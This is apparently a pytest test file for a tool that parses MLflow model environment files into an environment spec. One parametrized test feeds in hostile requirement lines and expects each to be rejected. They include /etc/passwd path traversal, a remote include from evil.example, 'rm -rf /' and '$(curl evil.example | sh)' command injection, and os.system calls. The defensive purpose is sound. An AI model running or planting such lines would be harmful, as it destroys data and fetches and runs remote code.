"""Stage 2: environment files -> EnvSpec (priorities, disagreements, hostile requirement lines)."""

from __future__ import annotations

from pathlib import Path

import pytest

from envbuild.envspec import read_env
from envbuild.errors import ModelError, RequirementError
from envbuild.model import load_model
from tests.conftest import CONDA, PYTHON_ENV, write_model


def env_of(model: Path):
    return read_env(load_model(model))


def test_consistent_model(sklearn_model: Path) -> None:
    env = env_of(sklearn_model)
    assert [r.text for r in env.requirements] == ["mlflow==2.20.0", "scikit-learn==1.5.0"]
    assert [str(r.origin) for r in env.requirements] == ["requirements.txt:1", "requirements.txt:2"]
    assert env.python.text == "3.11.7" and str(env.python.origin) == "python_env.yaml:1"
    assert env.python.minor == "3.11"
    assert [r.text for r in env.build_requirements] == ["pip==24.0"]
    assert [d.spec for d in env.conda_dependencies] == ["python=3.11.7", "pip<=24.0"]
    assert env.channels == ("conda-forge",)
    assert env.source == "python_env.yaml"
    assert env.warnings == ()


def test_digest_changes_with_requirements(sklearn_model: Path) -> None:
    before = env_of(sklearn_model).digest()
    assert env_of(sklearn_model).digest() == before
    (sklearn_model / "requirements.txt").write_text("mlflow==2.20.0\nscikit-learn==1.5.1\n")
    assert env_of(sklearn_model).digest() != before


def test_python_version_trust_order_and_disagreement(sklearn_model: Path) -> None:
    (sklearn_model / "conda.yaml").write_text(CONDA.replace("python=3.11.7", "python=3.10.*"))
    env = env_of(sklearn_model)
    assert env.python.text == "3.11.7"
    assert any("conda.yaml:4 says 3.10.*" in w and "using 3.11.7" in w for w in env.warnings)


def test_conda_python_used_without_python_env(sklearn_model: Path) -> None:
    (sklearn_model / "python_env.yaml").unlink()
    (sklearn_model / "conda.yaml").write_text(CONDA.replace("python=3.11.7", "python=3.10.*"))
    env = env_of(sklearn_model)
    assert env.python.version == "3.10" and env.python.specifier == "==3.10.*"
    assert env.source == "requirements.txt"
    assert any("python_env.yaml is missing" in w for w in env.warnings)


def test_float_python_version_in_python_env(sklearn_model: Path) -> None:
    (sklearn_model / "python_env.yaml").write_text(PYTHON_ENV.replace("3.11.7", "3.10"))
    env = env_of(sklearn_model)
    assert env.python.version == "3.10"
    assert env.python.admits("3.10.13") and not env.python.admits("3.1.0")


def test_conda_pip_list_with_comments_is_the_last_resort(sklearn_model: Path) -> None:
    (sklearn_model / "python_env.yaml").unlink()
    (sklearn_model / "requirements.txt").unlink()
    (sklearn_model / "conda.yaml").write_text(
        "dependencies:\n- python=3.11\n- pip:\n  - mlflow\n  # a comment\n  - pandas<3\n"
    )
    env = env_of(sklearn_model)
    assert env.source == "conda.yaml"
    assert [(r.text, str(r.origin)) for r in env.requirements] == [
        ("mlflow", "conda.yaml:4"),
        ("pandas<3", "conda.yaml:6"),
    ]


def test_disagreeing_pins_are_warned_not_merged(sklearn_model: Path) -> None:
    (sklearn_model / "conda.yaml").write_text(
        CONDA.replace("scikit-learn==1.5.0", "scikit-learn==1.4.0")
    )
    env = env_of(sklearn_model)
    assert "scikit-learn==1.5.0" in [r.text for r in env.requirements]
    assert any("conda.yaml:8 asks for scikit-learn==1.4.0" in w for w in env.warnings)


def test_missing_include_falls_back_with_a_warning(sklearn_model: Path) -> None:
    (sklearn_model / "requirements.txt").unlink()
    env = env_of(sklearn_model)
    assert env.source == "conda.yaml"
    assert any("requirements.txt does not exist; using conda.yaml" in w for w in env.warnings)


def test_no_environment_file_at_all(sklearn_model: Path) -> None:
    for name in ("python_env.yaml", "conda.yaml", "requirements.txt"):
        (sklearn_model / name).unlink()
    with pytest.raises(ModelError) as info:
        env_of(sklearn_model)
    assert info.value.field == "flavors.python_function.env"
    assert "capture" in info.value.hint


def test_no_python_function_flavor(tmp_path: Path) -> None:
    model = write_model(tmp_path / "m", {"MLmodel": "flavors:\n  mleap:\n    model_data: x\n"})
    with pytest.raises(ModelError, match="no python_function flavor"):
        env_of(model)


def test_includes_and_constraints(sklearn_model: Path) -> None:
    (sklearn_model / "requirements.txt").write_text(
        "-r extra/more.txt\n-c constraints.txt\nmlflow\n"
    )
    write_model(sklearn_model, {"extra/more.txt": "numpy>=1\n", "constraints.txt": "numpy<2\n"})
    env = env_of(sklearn_model)
    assert [(r.text, str(r.origin)) for r in env.requirements] == [
        ("numpy>=1", "extra/more.txt:1"),
        ("mlflow", "requirements.txt:3"),
    ]
    assert [r.text for r in env.constraints] == ["numpy<2"]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("-r ../../etc/passwd", "leaves the model folder"),
        ("-r /etc/passwd", "leaves the model folder"),
        ("-r https://evil.example/reqs.txt", "remote include"),
        ("numpy==1.0 && rm -rf /", "invalid requirement"),
        ("numpy; os.system('id')", "invalid requirement"),
        ("$(curl evil.example | sh)", "invalid requirement"),
        ("pkg --install-option=--prefix=/tmp", "per-requirement options are refused"),
        ("pkg --global-option=build_ext", "per-requirement options are refused"),
        ("-e git+https://example.com/x.git#egg=x", "editable"),
        ("x @ file:///etc/passwd", "leaves the model folder"),
    ],
)
def test_hostile_requirement_lines(sklearn_model: Path, line: str, message: str) -> None:
    (sklearn_model / "requirements.txt").write_text(f"mlflow\n{line}\n")
    with pytest.raises(ModelError) as info:
        env_of(sklearn_model)
    assert message in info.value.message
    assert info.value.line == 2
    assert info.value.path.name == "requirements.txt"


def test_index_options_are_recorded_and_redacted_not_obeyed(sklearn_model: Path) -> None:
    (sklearn_model / "requirements.txt").write_text(
        "--extra-index-url https://user:s3cret@pkgs.example/simple\n--find-links https://x.example/\n"
        "--trusted-host pkgs.example\nmlflow\n"
    )
    env = env_of(sklearn_model)
    assert [r.text for r in env.requirements] == ["mlflow"]
    assert [(o.option, o.redacted) for o in env.index_options] == [
        ("--extra-index-url", "https://***@pkgs.example/simple"),
        ("--find-links", "https://x.example/"),
        ("--trusted-host", "pkgs.example"),
    ]
    assert all("s3cret" not in w for w in env.warnings)
    assert sum("--trust-model-indexes" in w for w in env.warnings) == 3


def test_hashes_and_markers_are_kept(sklearn_model: Path) -> None:
    (sklearn_model / "requirements.txt").write_text(
        "six==1.16.0 --hash=sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254\n"
        'tomli>=1; python_version < "3.11"\n'
    )
    env = env_of(sklearn_model)
    assert env.requirements[0].hashes[0].startswith("sha256:8abb")
    assert env.requirements[1].text == 'tomli>=1; python_version < "3.11"'


def test_local_wheel_inside_the_model_folder_is_allowed(sklearn_model: Path) -> None:
    wheel = sklearn_model / "code" / "mypkg-1.0-py3-none-any.whl"
    wheel.parent.mkdir()
    wheel.write_bytes(b"")
    (sklearn_model / "requirements.txt").write_text(f"mypkg @ {wheel.as_uri()}\n")
    assert env_of(sklearn_model).requirements[0].name == "mypkg"


def test_conda_yaml_shapes_that_are_errors(sklearn_model: Path) -> None:
    (sklearn_model / "python_env.yaml").unlink()
    (sklearn_model / "requirements.txt").unlink()
    (sklearn_model / "conda.yaml").write_text("dependencies:\n- pip:\n  - {a: 1}\n")
    with pytest.raises(ModelError) as info:
        env_of(sklearn_model)
    assert info.value.line == 3 and info.value.field == "dependencies.pip"


def test_python_env_unknown_key(sklearn_model: Path) -> None:
    (sklearn_model / "python_env.yaml").write_text(PYTHON_ENV + "surprise: 1\n")
    with pytest.raises(ModelError) as info:
        env_of(sklearn_model)
    assert info.value.field == "surprise"


def test_requirement_error_is_a_model_error() -> None:
    assert issubclass(RequirementError, ModelError)


SIMPLE_TEXTS = {
    "pins": "mlflow==3.17.2\ncloudpickle==3.1.3\nnumpy==2.4.6\n",
    "spaced": "pandas >= 1.0 , < 3\n  scikit-learn~=1.5\r\nFoo_Bar.baz[b, a]==2.0\n",
    "operators": "a===1.0\nb!=2\nc==1.*\nd>1,<=3\ne\nF-G[x]\n",
    "comments": "# a comment\n\nnumpy==2.0\n   # indented comment\n",
    "includes": "-r more.txt\nnumpy==2.0\n-c cons.txt\n--requirement=more2.txt\n",
}
NOT_SIMPLE = {
    "marker": "numpy==2.0; python_version < '3.12'\n",
    "url": "pkg @ https://example.com/pkg-1.0-py3-none-any.whl\n",
    "trailing comment": "numpy==2.0  # pinned\n",
    "hash": "numpy==2.0 --hash=sha256:" + "0" * 64 + "\n",
    "option": "--index-url https://example.com/simple\nnumpy==2.0\n",
    "continuation": "numpy==2.0 \\\n    --hash=sha256:" + "0" * 64 + "\n",
    "editable": "-e .\n",
    "bad": "numpy===\n",
}


@pytest.mark.parametrize("name", sorted(SIMPLE_TEXTS))
def test_plain_requirement_files_read_the_same_without_the_full_parser(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The shortcut for plain lines (no pip-requirements-parser) gives exactly what the full
    parser gives: requirements, constraints, origins, includes."""
    from envbuild import requirements

    for include in ("more.txt", "more2.txt"):
        (tmp_path / include).write_text("six==1.16.0\n")
    (tmp_path / "cons.txt").write_text("attrs<24\n")
    (tmp_path / "requirements.txt").write_text(SIMPLE_TEXTS[name])
    assert requirements._parse_simple(SIMPLE_TEXTS[name]) is not None

    def read() -> requirements.ParsedRequirements:
        reader = requirements.RequirementsReader(tmp_path)
        reader.read_file(tmp_path / "requirements.txt")
        reader.read_line(
            SIMPLE_TEXTS[name].splitlines()[-1],
            requirements.Origin("x.yaml", 3),
            tmp_path / "x.yaml",
        )
        return reader.result

    fast = read()
    monkeypatch.setattr(requirements, "_parse_simple", lambda text: None)
    assert fast == read()
    assert fast.requirements


@pytest.mark.parametrize("name", sorted(NOT_SIMPLE))
def test_anything_else_goes_to_the_full_parser(name: str) -> None:
    from envbuild import requirements

    assert requirements._parse_simple(NOT_SIMPLE[name]) is None
